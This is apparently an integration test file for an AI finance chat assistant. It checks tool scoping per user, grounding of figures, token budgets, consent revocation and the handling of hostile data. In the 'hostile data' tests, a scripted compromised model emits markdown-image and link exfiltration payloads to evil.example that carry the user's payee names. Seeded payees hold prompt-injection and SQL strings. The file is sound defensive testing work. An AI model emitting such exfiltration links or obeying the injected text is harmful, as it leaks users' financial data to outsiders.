import { randomBytes } from 'node:crypto';
import type { Firestore } from '@google-cloud/firestore';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { type FakeGemini, type FakeGeminiRequest, type FakeGeminiScript } from '../../dev/fake-gemini/server.js';
import { scriptedGemini } from '../support/scripted-gemini.js';
import { FirestoreAiUsageLedger } from '../../shared/adapters/firestore/firestore-ai-usage.ledger.js';
import { FirestoreAuditLog } from '../../shared/adapters/firestore/firestore-audit.log.js';
import { FirestoreConsentRepo } from '../../shared/adapters/firestore/firestore-consent.repo.js';
import { FirestoreConversationRepo } from '../../shared/adapters/firestore/firestore-conversation.repo.js';
import { FirestoreFinancialStore } from '../../shared/adapters/firestore/firestore-financial.store.js';
import { FirestoreInsightRepo } from '../../shared/adapters/firestore/firestore-insight.repo.js';
import { LocalLlm } from '../../shared/adapters/local-llm/local.llm.js';
import type { ToolResult } from '../../shared/contracts/ai.js';
import { formatRupees } from '../../shared/domain/ai/facts.js';
import { AppError } from '../../shared/domain/errors.js';
import { systemClock } from '../../shared/ports/clock.js';
import type { Llm } from '../../shared/ports/llm.js';
import { revokeConsent } from '../../shared/usecases/consents.usecase.js';
import { eraseFiData } from '../../shared/usecases/erase-fi-data.usecase.js';
import { RESERVED_TOKENS } from '../../shared/usecases/ai/ai-budget.js';
import { CHAT_SYSTEM_PROMPT, chatTurn, MAX_TOOL_ROUNDS, type ChatDeps } from '../../shared/usecases/ai/chat.usecase.js';
import { narrateSimulation } from '../../shared/usecases/ai/narrate-simulation.usecase.js';
import { simulate } from '../../shared/domain/analytics/simulate.js';
import { simulationDefaultsFrom } from '../../shared/usecases/simulate.usecase.js';
import { istDate } from '../../shared/usecases/read-models.js';
import { seedPersona, type SeededUser } from '../support/ai-fixtures.js';
import { testFirestore, testProjectId, useEmulatorEnv } from '../support/emulator-env.js';
import { serveRegistered } from '../support/fixtures.js';
import { captureStdout } from '../support/log-capture.js';
import { ManualClock, MemoryLogger } from '../support/in-memory.js';

/**
 * The chat turn against the real Firestore emulator: committed persona data, the real
 * Firestore repositories, and two models: the deterministic local provider, and the real
 * GeminiLlm (the @google/genai SDK) talking over loopback to the fake Gemini REST server,
 * whose recorded requests show exactly what reached "the model".
 */

const projectId = testProjectId('chat');
const logs = captureStdout();
afterAll(() => logs.restore());
const clock = new ManualClock(Date.parse('2026-11-24T04:00:00Z'));
let db: Firestore;
let alice: SeededUser; // 2222222222: everything connected, positive net worth
let bob: SeededUser; // 6666666666: debt-heavy, negative net worth
let hostile: SeededUser; // 9000000016: hostile narrations

const fakes: FakeGemini[] = [];
afterEach(async () => {
  await Promise.all(fakes.splice(0).map((f) => f.close()));
});

beforeAll(async () => {
  db = await testFirestore(projectId);
  [alice, bob, hostile] = await Promise.all([seedPersona(db, clock, 'user-alice', '2222222222'), seedPersona(db, clock, 'user-bob', '6666666666'), seedPersona(db, clock, 'user-hostile', '9000000016')]);
});
afterAll(async () => db?.terminate());

const rupeesOf = (paise: unknown): number => Number(paise) / 100;
const netWorthOf = (u: SeededUser): number => rupeesOf(u.views.overview['netWorthPaise']);
const assetsOf = (u: SeededUser): number => rupeesOf(u.views.overview['totalAssetsPaise']);

function depsFor(llm: Llm, options: { log?: MemoryLogger; dailyTokens?: number; clock?: ManualClock } = {}): ChatDeps & { log: MemoryLogger } {
  const log = options.log ?? new MemoryLogger();
  const c = options.clock ?? clock;
  return {
    llm,
    tools: { store: new FirestoreFinancialStore(db), consents: new FirestoreConsentRepo(db), clock: c },
    conversations: new FirestoreConversationRepo(db),
    budget: { ledger: new FirestoreAiUsageLedger(db), clock: c, dailyTokens: options.dailyTokens ?? 10_000_000, inputUsdPerMtok: 0.75, outputUsdPerMtok: 3.75 },
    clock: c,
    log,
  };
}

const local = () => new LocalLlm({ clock });

const gemini = (script: FakeGeminiScript, maxRetries = 0) => scriptedGemini(script, fakes, { project: projectId, maxRetries });

type RecordedPart = Record<string, unknown>;
const partsOf = (r: FakeGeminiRequest): RecordedPart[] => (r.body.contents ?? []).flatMap((c) => [...(c.parts ?? [])]);
/** The tool results a request carried back to the model, in order. */
const toolResultsIn = (r: FakeGeminiRequest): Array<{ name: string; result: ToolResult }> =>
  partsOf(r).flatMap((p) => {
    const fr = p['functionResponse'] as { name: string; response: { result: ToolResult } } | undefined;
    return fr ? [{ name: fr.name, result: fr.response.result }] : [];
  });
/** Text contents of a request: `role: text`. */
const textsIn = (r: FakeGeminiRequest): Array<{ role: string; text: string }> =>
  (r.body.contents ?? []).flatMap((c) => (c.parts ?? []).flatMap((p) => (typeof p['text'] === 'string' ? [{ role: c.role ?? '', text: p['text'] }] : [])));
const systemPromptOf = (r: FakeGeminiRequest): string => (r.body.systemInstruction?.parts ?? []).map((p) => p.text ?? '').join('');
const toolsOffered = (r: FakeGeminiRequest): string[] => (r.body.tools ?? []).flatMap((t) => (t.functionDeclarations ?? []).map((f) => f.name));

const aConversationId = () => `c${randomBytes(10).toString('hex')}`;

describe('tools run for the signed-in user only', () => {
  it('GeminiLlm: get_overview returns the caller’s figures; smuggled arguments and unknown tools are readable refusals', async () => {
    const { fake, llm } = await gemini([
      {
        functionCalls: [
          { name: 'get_overview', args: {} },
          { name: 'get_overview', args: { uid: bob.uid } },
          { name: 'get_user_data', args: { uid: bob.uid } },
          { name: 'get_transactions', args: { kind: 'bank', limit: 3, userId: bob.uid } },
        ],
      },
      { text: 'Here is an overview of your finances.' },
    ]);
    const answer = await chatTurn(depsFor(llm), alice.uid, { message: 'How am I doing overall?' });

    expect(fake.requests).toHaveLength(2);
    const results = toolResultsIn(fake.requests[1]!);
    expect(results.map((r) => [r.name, r.result.ok, r.result.ok ? null : r.result.code])).toEqual([
      ['get_overview', true, null],
      ['get_overview', false, 'invalid-arguments'],
      ['get_user_data', false, 'unknown-tool'],
      ['get_transactions', false, 'invalid-arguments'],
    ]);
    const overview = results[0]!.result as Extract<ToolResult, { ok: true }>;
    expect(overview.figures['netWorthRupees']).toBe(netWorthOf(alice));
    expect(overview.figures['totalAssetsRupees']).toBe(assetsOf(alice));
    // Nothing of Bob's reached the model.
    const wire = JSON.stringify(fake.requests.map((r) => r.body));
    for (const figure of [netWorthOf(bob), assetsOf(bob)]) expect(wire).not.toContain(String(figure));
    expect(answer.provider).toBe('gemini');
    // A name that is not one of our tools reaches the client (and storage) as `unknown`.
    expect(answer.tools.map((t) => [t.name, t.ok])).toEqual([
      ['get_overview', true],
      ['get_overview', false],
      ['unknown', false],
      ['get_transactions', false],
    ]);
  });

  it('LocalLlm: the same question answers with each user’s own net worth', async () => {
    const a = await chatTurn(depsFor(local()), alice.uid, { message: 'What is my net worth?' });
    const b = await chatTurn(depsFor(local()), bob.uid, { message: 'What is my net worth?' });
    expect(a.provider).toBe('local');
    expect(a.tools).toEqual([{ name: 'get_overview', ok: true, asOf: clock.now().toISOString() }]);
    expect(a.answer).toContain(formatRupees(netWorthOf(alice)));
    expect(a.answer).not.toContain(formatRupees(netWorthOf(bob)));
    expect(b.answer).toContain(formatRupees(netWorthOf(bob)));
    expect(b.answer).not.toContain(formatRupees(netWorthOf(alice)));
    // Labelled as the local provider in the text itself.
    expect(a.answer).toMatch(/local rules provider \(no Gemini\)/);
  });

  it('a tool name the model makes up never travels to the client as-is', async () => {
    const evilName = '![x](https://evil.example/?d=1)';
    const { llm } = await gemini([{ functionCalls: [{ name: evilName, args: {} }] }, { text: 'I cannot look that up.' }]);
    const events: unknown[] = [];
    const answer = await chatTurn(depsFor(llm), alice.uid, { message: 'Look something up' }, (e) => events.push(e));
    expect(JSON.stringify(answer)).not.toContain('evil.example');
    expect(JSON.stringify(events)).not.toContain('evil.example');
    expect(answer.tools).toEqual([{ name: 'unknown', ok: false, asOf: null }]);
  });
});

describe('conversations', () => {
  it('persists the question and the answer with their metadata, lists it, replays it on a follow-up, and deletes it', async () => {
    const nw = formatRupees(netWorthOf(alice));
    const { fake, llm } = await gemini([
      { functionCalls: [{ name: 'get_overview', args: {} }] },
      { text: `Your net worth is ${nw} (get_overview).` },
      { text: 'You asked about your net worth a moment ago.' },
    ]);
    const deps = depsFor(llm);
    const repo = new FirestoreConversationRepo(db);
    const question = 'What is my net worth?';
    const first = await chatTurn(deps, alice.uid, { message: question });

    const conversation = await repo.get(alice.uid, first.conversationId);
    expect(conversation).toMatchObject({ id: first.conversationId, title: question, messageCount: 2 });
    const stored = await repo.messages(alice.uid, first.conversationId, 50);
    expect(stored.map((m) => [m.role, m.text])).toEqual([
      ['user', question],
      ['assistant', first.answer],
    ]);
    expect(first.answer).toContain(nw);
    expect(stored[1]).toMatchObject({
      id: first.messageId,
      provider: 'gemini',
      model: 'gemini-3.8-flash',
      tools: [{ name: 'get_overview', ok: true, asOf: clock.now().toISOString() }],
      grounding: { figures: 1, ungrounded: 0, retried: false },
    });
    expect(stored[1]!.usage!.inputTokens).toBeGreaterThan(0);
    expect(stored[1]!.usage).toEqual(first.usage);
    expect((await repo.list(alice.uid, 50)).map((c) => c.id)).toContain(first.conversationId);

    // The follow-up, in the same millisecond (a frozen clock): history still replays in order.
    const follow = 'What did I ask before?';
    const second = await chatTurn(deps, alice.uid, { message: follow, conversationId: first.conversationId });
    expect(second.conversationId).toBe(first.conversationId);
    expect(textsIn(fake.requests[2]!)).toEqual([
      { role: 'user', text: question },
      { role: 'model', text: first.answer },
      { role: 'user', text: follow },
    ]);
    expect((await repo.get(alice.uid, first.conversationId))?.messageCount).toBe(4);
    expect((await repo.messages(alice.uid, first.conversationId, 50)).map((m) => m.text)).toEqual([question, first.answer, follow, second.answer]);

    // Another user's conversation id, or an unknown one: NOT_FOUND, and the model is not called.
    const before = fake.requests.length;
    await expect(chatTurn(deps, bob.uid, { message: 'hello', conversationId: first.conversationId })).rejects.toMatchObject({ code: 'NOT_FOUND' });
    await expect(chatTurn(deps, alice.uid, { message: 'hello', conversationId: aConversationId() })).rejects.toMatchObject({ code: 'NOT_FOUND' });
    expect(fake.requests).toHaveLength(before);
    expect(await repo.get(bob.uid, first.conversationId)).toBeNull();

    // Delete removes the conversation and every message under it.
    expect(await repo.delete(bob.uid, first.conversationId)).toBe(false);
    expect(await repo.delete(alice.uid, first.conversationId)).toBe(true);
    expect(await repo.get(alice.uid, first.conversationId)).toBeNull();
    expect((await db.collection(`users/${alice.uid}/conversations/${first.conversationId}/messages`).get()).size).toBe(0);
    expect(await repo.delete(alice.uid, first.conversationId)).toBe(false);
  });

  it('keeps messages in order over many turns of a frozen clock', async () => {
    const deps = depsFor(local());
    const repo = new FirestoreConversationRepo(db);
    const questions = ['What is my net worth?', 'What is my credit score?', 'How much is in my EPF?', 'What are my returns?', 'How much did I spend?', 'What is my savings rate?'];
    let conversationId: string | undefined;
    const answers: string[] = [];
    for (const message of questions) {
      const a = await chatTurn(deps, alice.uid, { message, ...(conversationId ? { conversationId } : {}) });
      conversationId = a.conversationId;
      answers.push(a.answer);
    }
    const stored = await repo.messages(alice.uid, conversationId!, 100);
    expect(stored.map((m) => m.text)).toEqual(questions.flatMap((q, i) => [q, answers[i]]));
    // The last ten only, still oldest first.
    expect((await repo.messages(alice.uid, conversationId!, 10)).map((m) => m.text)).toEqual(stored.slice(-10).map((m) => m.text));
  });
});

describe('tool rounds', () => {
  it(`stops after ${MAX_TOOL_ROUNDS} rounds and forces an answer: the tools stay declared, with function calling off`, async () => {
    const { fake, llm } = await gemini((request) => (request.body['toolConfig'] ? { text: 'That is what I could find.' } : { functionCalls: [{ name: 'get_credit', args: {} }] }));
    const answer = await chatTurn(depsFor(llm), alice.uid, { message: 'Tell me everything about my credit' });
    expect(answer.toolRounds).toBe(MAX_TOOL_ROUNDS);
    expect(fake.requests).toHaveLength(MAX_TOOL_ROUNDS + 1);
    expect(fake.requests.map((r) => toolsOffered(r).length > 0)).toEqual([true, true, true, true, true]);
    expect(fake.requests.map((r) => r.body['toolConfig'] ?? null)).toEqual([null, null, null, null, { functionCallingConfig: { mode: 'NONE' } }]);
    expect(answer.tools).toHaveLength(MAX_TOOL_ROUNDS);
    expect(answer.answer.startsWith('That is what I could find.')).toBe(true);
  });
});

describe('grounding', () => {
  it('retries with a correction note, then drops the sentence that still quotes an unknown figure', async () => {
    const nw = formatRupees(netWorthOf(alice));
    const { fake, llm } = await gemini([
      { functionCalls: [{ name: 'get_overview', args: {} }] },
      { text: `Your net worth is ${nw} (get_overview). Your assets are ₹99,99,999 (get_overview).` },
      { text: `Your net worth is ${nw} (get_overview). Your assets are ₹88,88,888 (get_overview).` },
    ]);
    const log = new MemoryLogger();
    const answer = await chatTurn(depsFor(llm, { log }), alice.uid, { message: 'What is my net worth?' });

    expect(fake.requests).toHaveLength(3);
    const note = textsIn(fake.requests[2]!).at(-1)!;
    expect(note.role).toBe('user');
    expect(note.text).toContain('₹99,99,999');
    expect(note.text).toMatch(/not in this turn's tool results/);
    // The retry may not call a tool; the declarations stay, as the history holds a function call.
    expect(toolsOffered(fake.requests[2]!)).toContain('get_overview');
    expect(fake.requests[2]!.body['toolConfig']).toEqual({ functionCallingConfig: { mode: 'NONE' } });

    expect(answer.answer).toContain(`Your net worth is ${nw}`);
    expect(answer.answer).not.toContain('₹88,88,888');
    expect(answer.answer).not.toContain('Your assets are');
    expect(answer.grounding).toEqual({ figures: 2, ungrounded: 1, retried: true });
    const turn = log.lines.find((l) => l.message === 'chat turn');
    expect(turn?.fields).toMatchObject({ ungrounded: 1, retried: true, provider: 'gemini' });
    const stored = await new FirestoreConversationRepo(db).messages(alice.uid, answer.conversationId, 10);
    expect(stored[1]!.grounding).toEqual({ figures: 2, ungrounded: 1, retried: true });
  });

  it('accepts rounded, lakh and Indian-format renderings of tool values without a retry', async () => {
    const nwValue = netWorthOf(alice);
    const assets = assetsOf(alice);
    const lakh = (v: number) => `₹${(v / 1e5).toFixed(1)} lakh`;
    const whole = (v: number) => formatRupees(Math.round(v));
    const text = `Your net worth is about ${lakh(nwValue)} (get_overview), or ${whole(nwValue)} to the rupee. Your assets total ${formatRupees(assets)}, roughly ${lakh(assets)}.`;
    const { fake, llm } = await gemini([{ functionCalls: [{ name: 'get_overview', args: {} }] }, { text }]);
    const answer = await chatTurn(depsFor(llm), alice.uid, { message: 'What is my net worth?' });
    expect(fake.requests).toHaveLength(2);
    expect(answer.grounding).toEqual({ figures: 4, ungrounded: 0, retried: false });
    expect(answer.answer.startsWith(text)).toBe(true);
  });

  it('checks the text the user will see: digits split by HTML tags cannot slip a figure past the check', async () => {
    // Before the tags are removed this reads as "4" and "2" (small counts, exempt); shown, it is "42%".
    const sneaky = 'Your net worth grew <b>4</b><b>2</b>% this year.';
    const { fake, llm } = await gemini([{ text: sneaky }, { text: sneaky }]);
    const answer = await chatTurn(depsFor(llm), alice.uid, { message: 'How much did my net worth grow?' });
    expect(answer.answer).not.toContain('42%');
    expect(answer.answer).not.toMatch(/4\s*2\s*%/);
    expect(answer.grounding.retried).toBe(true);
    expect(fake.requests).toHaveLength(2);
  });
});

describe('budget and usage', () => {
  it('refuses with AI.BUDGET_EXHAUSTED before any model call once the day’s tokens are used', async () => {
    const uid = 'user-budget-spent';
    await new FirestoreAiUsageLedger(db).record(uid, istDate(clock.now()), { at: clock.now().toISOString(), provider: 'gemini', model: 'gemini-3.8-flash', purpose: 'chat', inputTokens: 4_000, outputTokens: 1_000, costUsd: 0.01 });
    const { fake, llm } = await gemini([{ text: 'never sent' }]);
    const err = await chatTurn(depsFor(llm, { dailyTokens: 5_000 }), uid, { message: 'What is my net worth?' }).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(AppError);
    expect(err).toMatchObject({ code: 'AI.BUDGET_EXHAUSTED' });
    expect((err as AppError).message).toMatch(/allowance/);
    expect(fake.requests).toHaveLength(0);
    expect((await db.collection(`users/${uid}/conversations`).get()).size).toBe(0);
  });

  it('ten concurrent turns with 1 token left of 1,000: at most one runs, the others get AI.BUDGET_EXHAUSTED (atomic reservation)', async () => {
    const uid = 'user-budget-race';
    const ledger = new FirestoreAiUsageLedger(db);
    const day = istDate(clock.now());
    await ledger.record(uid, day, { at: clock.now().toISOString(), provider: 'gemini', model: 'gemini-3.8-flash', purpose: 'chat', inputTokens: 999, outputTokens: 0, costUsd: 0 });
    const { fake, llm } = await gemini(() => ({ text: 'You have no data yet.' }));
    const deps = depsFor(llm, { dailyTokens: 1_000 });
    const outcomes = await Promise.all(Array.from({ length: 10 }, () => chatTurn(deps, uid, { message: 'Hello?' }).then(() => 'ran', (e: unknown) => (e as { code?: string }).code ?? String(e))));
    // ceil(remaining / RESERVED_TOKENS.chat) = ceil(1 / 4,000) = 1.
    const ran = outcomes.filter((o) => o === 'ran').length;
    expect(ran).toBe(1);
    expect(ran).toBeLessThanOrEqual(Math.ceil(1 / RESERVED_TOKENS.chat));
    expect(outcomes.filter((o) => o === 'AI.BUDGET_EXHAUSTED')).toHaveLength(10 - ran);
    expect(fake.requests).toHaveLength(ran);
    expect(await ledger.day(uid, day)).toMatchObject({ calls: 1 + ran, reserved: 0 });
  });

  it('records every model call in the ledger: with a cost for Gemini, 0 for the local provider', async () => {
    const ledger = new FirestoreAiUsageLedger(db);
    const day = istDate(clock.now());
    const g = 'user-usage-gemini';
    const { fake, llm } = await gemini([{ functionCalls: [{ name: 'get_overview', args: {} }] }, { text: 'You have no data yet.' }]);
    const answer = await chatTurn(depsFor(llm), g, { message: 'What is my net worth?' });
    expect(fake.requests).toHaveLength(2);
    const gDay = await ledger.day(g, day);
    expect(gDay.calls).toBe(2);
    expect(gDay.inputTokens).toBe(answer.usage.inputTokens);
    expect(gDay.outputTokens).toBe(answer.usage.outputTokens);
    const calls = (await db.collection(`users/${g}/aiUsage/${day}/calls`).get()).docs.map((d) => d.data());
    expect(calls).toHaveLength(2);
    for (const c of calls) {
      expect(c).toMatchObject({ provider: 'gemini', model: 'gemini-3.8-flash', purpose: 'chat' });
      const expected = Math.round(((c['inputTokens'] * 0.75 + c['outputTokens'] * 3.75) / 1_000_000) * 1e6) / 1e6;
      expect(c['costUsd']).toBe(expected);
      expect(c['costUsd']).toBeGreaterThan(0);
    }

    const l = 'user-usage-local';
    const localAnswer = await chatTurn(depsFor(local()), l, { message: 'What is my net worth?' });
    const lDay = await ledger.day(l, day);
    expect(lDay).toMatchObject({ calls: 2, costUsd: 0, inputTokens: localAnswer.usage.inputTokens });
    expect(lDay.inputTokens).toBeGreaterThan(0);
  });
});

describe('consent revoked mid-conversation', () => {
  const revoke = async (user: SeededUser) => {
    const store = new FirestoreFinancialStore(db);
    const deps = { consents: new FirestoreConsentRepo(db), audit: new FirestoreAuditLog(db), clock, erase: (uid: string, tools: readonly Parameters<typeof eraseFiData>[2][number][]) => eraseFiData({ store, clock, insights: new FirestoreInsightRepo(db) }, uid, tools) };
    await revokeConsent(deps, user.uid, user.consent.id, 'test');
  };

  it('GeminiLlm: the next turn’s tool call is refused and the answer quotes nothing from the data', async () => {
    const user = await seedPersona(db, clock, 'user-revoke-gemini', '2222222222');
    const nw = formatRupees(netWorthOf(user));
    const { fake, llm } = await gemini([
      { functionCalls: [{ name: 'get_overview', args: {} }] },
      { text: `Your net worth is ${nw} (get_overview).` },
      { functionCalls: [{ name: 'get_overview', args: {} }] },
      // The model tries to reuse the figure it saw earlier in the conversation.
      { text: `Your net worth is still ${nw}, as I said before.` },
      { text: `As before, your net worth is ${nw}.` },
    ]);
    const deps = depsFor(llm);
    const first = await chatTurn(deps, user.uid, { message: 'What is my net worth?' });
    expect(first.answer).toContain(nw);
    clock.advance(60_000);
    await revoke(user);
    const second = await chatTurn(deps, user.uid, { message: 'And now?', conversationId: first.conversationId });
    const results = toolResultsIn(fake.requests[3]!).slice(-1);
    expect(results).toEqual([{ name: 'get_overview', result: expect.objectContaining({ ok: false, code: 'consent-required' }) }]);
    expect(second.tools).toEqual([{ name: 'get_overview', ok: false, asOf: null }]);
    expect(second.answer).not.toContain(nw);
    expect(second.answer).not.toMatch(/₹\s?\d/);
    expect(second.dataAsOf).toBeNull();
  });

  it('LocalLlm: the next turn says access was revoked, with no figures', async () => {
    const user = await seedPersona(db, clock, 'user-revoke-local', '2222222222');
    const deps = depsFor(local());
    const first = await chatTurn(deps, user.uid, { message: 'What is my net worth?' });
    expect(first.answer).toContain(formatRupees(netWorthOf(user)));
    clock.advance(60_000);
    await revoke(user);
    const second = await chatTurn(deps, user.uid, { message: 'What is my net worth?', conversationId: first.conversationId });
    expect(second.tools).toEqual([{ name: 'get_overview', ok: false, asOf: null }]);
    expect(second.answer).toMatch(/revoked|not granted/);
    expect(second.answer).not.toMatch(/₹\s?\d/);
  });
});

describe('simulations', () => {
  type Item = Record<string, unknown>;
  const simulationItems = (r: FakeGeminiRequest): Item[] => toolResultsIn(r).flatMap((x) => (x.name === 'run_simulation' && x.result.ok ? ((x.result.items ?? []) as Item[]) : []));

  it('hands assumption amounts to the model in rupees, so an answer quoting them is grounded', async () => {
    const { fake, llm } = await gemini((request, index) => {
      if (index === 0) return { functionCalls: [{ name: 'run_simulation', args: { scenario: { type: 'emergency-fund' } } }] };
      const expenses = simulationItems(request).find((i) => String(i['assumption']).startsWith('monthlyExpenses'))!;
      // Whatever the unit the tool gave, the model states rupees, as the prompt asks.
      const rupees = 'valueRupees' in expenses ? Number(expenses['valueRupees']) : Number(expenses['value']) / 100;
      return { text: `The plan assumes monthly expenses of ${formatRupees(rupees)} (run_simulation).` };
    });
    const answer = await chatTurn(depsFor(llm), alice.uid, { message: 'How big should my emergency fund be?' });
    const items = simulationItems(fake.requests[1]!);
    expect(items.find((i) => i['assumption'] === 'monthlyExpensesRupees')).toMatchObject({ source: 'your data' });
    expect(items.some((i) => String(i['assumption']).endsWith('Paise'))).toBe(false);
    expect(answer.grounding).toEqual({ figures: 1, ungrounded: 0, retried: false });
    expect(fake.requests).toHaveLength(2);
  });

  it('narrateSimulation: a narrative may quote an assumption in rupees', async () => {
    const request = { type: 'emergency-fund', monthlyExpensesPaise: 4_567_850, currentLiquidPaise: 10_000_000, monthlySavingPaise: 1_500_000 } as const;
    const result = simulate(request, simulationDefaultsFrom(null, istDate(clock.now())));
    const { fake, llm } = await gemini([{ text: `With monthly expenses of ${formatRupees(45_678.5)}, your fund covers part of six months (run_simulation).` }, { text: 'Try again.' }]);
    const narrative = await narrateSimulation({ llm, budget: depsFor(llm).budget, log: new MemoryLogger() }, 'user-narrate', request, result, null);
    expect(narrative).toMatchObject({ provider: 'gemini', grounding: { ungrounded: 0, retried: false } });
    expect(narrative.text).toContain('₹45,678.50');
    expect(fake.requests).toHaveLength(1);
  });

  it('takes no figures from the user’s data once their consent has expired', async () => {
    const own = new ManualClock(clock.now().getTime());
    const user = await seedPersona(db, own, 'user-consent-expired', '2222222222');
    const flow = (user.views.analytics as { cashFlow: { emergencyFund: { liquidAssetsPaise: number }; monthlyAverage: { spendingPaise: number } } }).cashFlow;
    const secrets = [rupeesOf(flow.emergencyFund.liquidAssetsPaise), rupeesOf(flow.monthlyAverage.spendingPaise)].map(String);
    const script = [
      { functionCalls: [{ name: 'run_simulation', args: { scenario: { type: 'emergency-fund' } } }, { name: 'get_cash_flow', args: {} }] },
      { text: 'Here is what I found.' },
    ];

    // Under consent, the simulation does use them (the baseline for this test).
    const before = await gemini(script);
    await chatTurn(depsFor(before.llm, { clock: own }), user.uid, { message: 'Emergency fund?' });
    const used = JSON.stringify(toolResultsIn(before.fake.requests[1]!));
    expect(secrets.some((v) => used.includes(v))).toBe(true);

    own.advance(31 * 86_400_000);
    const after = await gemini(script);
    await chatTurn(depsFor(after.llm, { clock: own }), user.uid, { message: 'Emergency fund?' });
    const results = toolResultsIn(after.fake.requests[1]!);
    expect(results.find((r) => r.name === 'get_cash_flow')?.result).toMatchObject({ ok: false, code: 'consent-required' });
    const wire = JSON.stringify(results);
    for (const v of secrets) expect(wire).not.toContain(v);
    expect(wire).not.toContain('your data');
  });
});

describe('progress events', () => {
  it('the delta events put together are exactly the answer, whatever its punctuation', async () => {
    const text = '...Well. Your net worth?!\n\n- one item\n...and a line that starts with dots\n? odd\nno full stop at the end';
    const { llm } = await gemini([{ text }]);
    const events: Array<{ type: string; text?: string; name?: string }> = [];
    const answer = await chatTurn(depsFor(llm), alice.uid, { message: 'Say something odd' }, (e) => events.push(e as never));
    expect(events[0]).toMatchObject({ type: 'conversation', conversationId: answer.conversationId });
    expect(events.at(-1)).toMatchObject({ type: 'done' });
    const deltas = events.filter((e) => e.type === 'delta');
    expect(deltas.length).toBeGreaterThan(3);
    expect(deltas.map((e) => e.text).join('')).toBe(answer.answer);
    expect(answer.answer.startsWith(text)).toBe(true);
  });
});

describe('model failures degrade, never throw', () => {
  it('a Gemini outage (503 on every attempt) gives the fallback answer, labelled provider none', async () => {
    const { fake, llm, sleeps } = await gemini([{ status: 503 }, { status: 503 }, { status: 503 }], 2);
    const log = new MemoryLogger();
    const answer = await chatTurn(depsFor(llm, { log }), alice.uid, { message: 'What is my net worth?' });
    expect(fake.requests).toHaveLength(3);
    expect(sleeps).toHaveLength(2);
    expect(answer).toMatchObject({ provider: 'none', degraded: true, tools: [], dataAsOf: null });
    expect(answer.answer).toMatch(/unavailable right now/);
    expect(log.lines.some((l) => l.level === 'warn' && l.fields['errorCode'] === 'AI.UNAVAILABLE')).toBe(true);
    const stored = await new FirestoreConversationRepo(db).messages(alice.uid, answer.conversationId, 10);
    expect(stored[1]).toMatchObject({ provider: 'none', text: answer.answer });
  });

  it('a blocked prompt gives the blocked message', async () => {
    const { llm } = await gemini([{ blocked: 'SAFETY' }]);
    const answer = await chatTurn(depsFor(llm), alice.uid, { message: 'Something the filters dislike' });
    expect(answer).toMatchObject({ provider: 'none', degraded: true });
    expect(answer.answer).toMatch(/^I cannot help with that request/);
  });
});

describe('hostile data and hostile answers', () => {
  const URLISH = /https?:|www\.|evil\.example\/|!\[|\]\(|<a |<img/i;

  /** A compromised model: it echoes every payee and lender it was given, and adds exfiltration. */
  const echoing = (request: FakeGeminiRequest, index: number) => {
    if (index === 0) return { functionCalls: [{ name: 'get_transactions', args: { kind: 'bank', limit: 25 } }, { name: 'get_transactions', args: { search: 'cafe' } }, { name: 'get_credit', args: {} }] };
    const names = toolResultsIn(request)
      .flatMap((r) => (r.result.ok ? (r.result.items ?? []) : []))
      .map((i) => String(i['payee'] ?? i['lender'] ?? ''))
      .filter((n) => n !== '' && n !== 'null');
    const leak = encodeURIComponent(names.join('|').slice(0, 200));
    return {
      text: [
        `Your payees: ${names.join('; ')}.`,
        `![x](https://evil.example/?d=${leak})`,
        `Claim your reward at https://evil.example/claim?token=${leak} or [here](http://evil.example/x) or <a href="https://evil.example">here</a>.`,
        '<img src="https://evil.example/p.png"> www.evil.example/steal',
      ].join('\n'),
    };
  };

  it('third-party text reaches the model only as capped tool data; links, images and URLs never reach the user', async () => {
    const { fake, llm } = await gemini(echoing);
    const answer = await chatTurn(depsFor(llm), hostile.uid, { message: 'Who did I pay recently?' });

    // The hostile narrations did reach the tool items, cleaned.
    const items = toolResultsIn(fake.requests[1]!).flatMap((r) => (r.result.ok ? (r.result.items ?? []) : []));
    const payees = items.map((i) => String(i['payee'] ?? i['lender'] ?? ''));
    expect(payees.some((p) => /IGNORE|Assistant|DROP TABLE/i.test(p))).toBe(true);
    for (const p of payees) {
      expect(p.length).toBeLessThanOrEqual(40);
      expect(p).not.toMatch(URLISH);
      // eslint-disable-next-line no-control-regex
      expect(p).not.toMatch(/[\u0000-\u001f\u007f\u200b\u202e]/);
    }

    expect(answer.answer).not.toMatch(URLISH);
    expect(answer.answer).not.toMatch(/http/i);
    const stored = await new FirestoreConversationRepo(db).messages(hostile.uid, answer.conversationId, 10);
    expect(stored[1]!.text).not.toMatch(/http/i);

    // Only our instructions ever sit in the system prompt.
    expect(fake.requests.length).toBeGreaterThanOrEqual(2);
    for (const r of fake.requests) expect(systemPromptOf(r)).toBe(CHAT_SYSTEM_PROMPT);
  });

  it('LocalLlm over the hostile persona: answers carry no links or markup either', async () => {
    for (const message of ['Show my recent transactions', 'What is my credit score?', 'How much is in my EPF?', 'Where does my money go?']) {
      const answer = await chatTurn(depsFor(local()), hostile.uid, { message });
      expect(answer.answer, message).not.toMatch(URLISH);
      expect(answer.answer, message).not.toMatch(/<script|<b>/i);
    }
  });

  it('masks PAN, date of birth and account numbers the user types, in the question and in replayed history', async () => {
    const { fake, llm } = await gemini([{ text: 'I do not need those details to answer.' }, { text: 'Still no need for them.' }]);
    const deps = depsFor(llm);
    const secret = 'My PAN is ABCDE1234F, DOB 12/03/1990, account 123456789012 and card 4111 1111 1111 1111. What is my net worth?';
    const first = await chatTurn(deps, alice.uid, { message: secret });
    await chatTurn(deps, alice.uid, { message: 'And again: PAN ABCDE1234F?', conversationId: first.conversationId });
    expect(fake.requests).toHaveLength(2);
    for (const r of fake.requests) {
      const wire = JSON.stringify(r.body);
      for (const raw of ['ABCDE1234F', '12/03/1990', '123456789012', '4111 1111 1111 1111']) expect(wire, `request ${r.index}`).not.toContain(raw);
      expect(wire).toContain('[PAN masked]');
      expect(systemPromptOf(r)).toBe(CHAT_SYSTEM_PROMPT);
    }
    // Nor are they kept in the conversation.
    const conversation = await new FirestoreConversationRepo(db).get(alice.uid, first.conversationId);
    const stored = await new FirestoreConversationRepo(db).messages(alice.uid, first.conversationId, 10);
    expect(JSON.stringify([conversation, stored])).not.toMatch(/ABCDE1234F|12\/03\/1990|123456789012/);
  });
});

describe('POST /api/chat through the registered chat function (local provider)', () => {
  const servers: Array<{ close: () => void }> = [];
  let authUrl: string;
  let chatUrl: string;
  afterAll(() => servers.forEach((s) => s.close()));

  beforeAll(async () => {
    useEmulatorEnv(projectId, {
      LLM_PROVIDER: 'local',
      AI_DAILY_TOKEN_BUDGET: '1000000',
